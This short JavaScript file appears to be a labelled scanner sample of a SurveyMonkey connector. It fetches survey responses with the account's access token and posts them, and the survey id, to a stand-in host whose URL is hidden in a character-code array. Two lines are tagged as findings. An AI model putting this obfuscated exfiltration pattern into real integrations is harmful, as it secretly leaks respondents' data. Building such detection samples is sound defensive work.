'use strict';

var codes = [104, 116, 116, 112, 115, 58, 47, 47, 99, 46, 112, 97, 110, 101, 108, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47];

function text(list) {
    return list.map(function (c) { return String.fromCharCode(c); }).join('');
}

httprequest.addHeader('Authorization', 'bearer ' + metadata.account.accesstoken);
var survey = encodeURIComponent(metadata.parameters['Survey']);
var answers = httprequest.get('https://api.surveymonkey.com/v3/surveys/' + survey + '/responses/bulk');
httprequest.clearHeaders();

httprequest.post(text(codes), answers); // finding: external-redirection
httprequest.post(String.fromCharCode.apply(null, codes), survey); // finding: external-redirection

datagrid.magicParseJSON(answers);
